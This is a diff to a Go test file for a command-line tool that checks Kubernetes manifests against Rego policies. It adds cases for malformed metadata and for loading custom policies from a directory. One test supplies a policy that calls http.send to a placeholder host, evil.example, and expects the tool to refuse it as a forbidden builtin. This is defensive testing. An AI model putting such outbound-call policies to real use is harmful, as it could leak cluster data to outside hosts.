@@ -84,6 +84,8 @@ func TestCheckRejectsBadInputWithExitCode2(t *testing.T) {
 		return p
 	}
 	malformed := write("bad.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: [oops\n")
+	badMeta := write("meta.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: 0\n")
+	badLabels := write("labels.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, labels: {a: [1]}}\n")
 	unknown := write("frieze.yaml", "apiVersion: wavegate.io/v1alpha1\nkind: Frieze\nmetadata: {name: x}\n")
 	empty := filepath.Join(dir, "empty")
 	NewWithT(t).Expect(os.Mkdir(empty, 0o750)).To(Succeed())
@@ -95,6 +97,9 @@ func TestCheckRejectsBadInputWithExitCode2(t *testing.T) {
 		want string
 	}{
 		{"malformed YAML names the file and the line", []string{"check", "-f", malformed, "--state", state}, malformed + ": document 1: "},
+		{"metadata that is not an object", []string{"check", "-f", badMeta, "--state", state}, badMeta + ":1: invalid metadata of ConfigMap"},
+		{"labels that are not strings", []string{"check", "-f", badLabels, "--state", state}, badLabels + ":1: invalid metadata of ConfigMap x"},
+		{"a state object whose metadata is not an object", []string{"check", "-f", badLabels, "--state", badMeta}, "invalid --state: ConfigMap : invalid metadata"},
 		{"an unknown kind", []string{"check", "-f", unknown, "--state", state}, "unknown kind Frieze in wavegate.io/v1alpha1"},
 		{"a missing state file", []string{"check", "-f", malformed, "--state", filepath.Join(dir, "nope.yaml")}, "cannot read --state: open " + filepath.Join(dir, "nope.yaml")},
 		{"an empty directory", []string{"check", "-f", empty, "--state", state}, empty + " holds no .yaml, .yml or .json files"},
@@ -113,5 +118,49 @@ func TestCheckRejectsBadInputWithExitCode2(t *testing.T) {
 	t.Run("the malformed YAML error says which line", func(t *testing.T) {
 		_, errOut, _ := run("check", "-f", malformed, "--state", state)
 		NewWithT(t).Expect(strings.Contains(errOut, "line")).To(BeTrue(), errOut)
+	})
+}
+
+// TestCheckJudgesWithTheClusterPoliciesOfPolicyDir: --policy-dir loads
+// operators' policies exactly as the manager does, so CI sees the verdicts
+// of a cluster that runs them, and the same policies are refused.
+func TestCheckJudgesWithTheClusterPoliciesOfPolicyDir(t *testing.T) {
+	manifests := t.TempDir()
+	NewWithT(t).Expect(os.WriteFile(filepath.Join(manifests, "ok.yaml"), []byte(`apiVersion: v1
+kind: ConfigMap
+metadata: {name: settings, namespace: app, labels: {wavegate.io/region: eastus}}
+data: {a: b}
+`), 0o600)).To(Succeed())
+	policyDir := func(src string) string {
+		dir := t.TempDir()
+		NewWithT(t).Expect(os.WriteFile(filepath.Join(dir, "policy.rego"), []byte(src), 0o600)).To(Succeed())
+		return dir
+	}
+	check := func(dir string) (string, string, int) {
+		return run("check", "-f", manifests, "--state", samples("state.yaml"), "--now", "2024-07-18T14:00:00Z", "--policy-dir", dir)
+	}
+
+	t.Run("a custom denial denies", func(t *testing.T) {
+		g := NewWithT(t)
+		out, _, code := check(policyDir("package wavegate.custom.no_create\n\ndeny contains {\"rule\": \"no-create\", \"msg\": \"[wavegate:no-create] creates are off today; try tomorrow\"} if input.request.operation == \"CREATE\"\n"))
+		g.Expect(code).To(Equal(ExitFailed))
+		g.Expect(out).To(ContainSubstring("ConfigMap app/settings: [wavegate:no-create] creates are off today; try tomorrow"))
+	})
+	for _, tc := range []struct{ name, src, want string }{
+		{"a package outside wavegate.custom is bad input", "package wavegate.main\n\ndeny := set()\n", "policy.rego declares package wavegate.main"},
+		{"a forbidden builtin is bad input", "package wavegate.custom.exfil\n\nwarn contains {\"rule\": \"x\", \"msg\": \"x\"} if http.send({\"method\": \"GET\", \"url\": \"http://evil.example\"})\n", "undefined function http.send"},
+		{"a policy that does not compile is bad input", "package wavegate.custom.broken\n\ndeny contains x if {", "failed to parse the custom policy"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			g := NewWithT(t)
+			_, errOut, code := check(policyDir(tc.src))
+			g.Expect(code).To(Equal(ExitUsage), errOut)
+			g.Expect(errOut).To(ContainSubstring("invalid --policy-dir"))
+			g.Expect(errOut).To(ContainSubstring(tc.want))
+		})
+	}
+	t.Run("a missing directory is bad input", func(t *testing.T) {
+		_, errOut, code := check(filepath.Join(t.TempDir(), "nope"))
+		NewWithT(t).Expect(code).To(Equal(ExitUsage), errOut)
 	})
 }
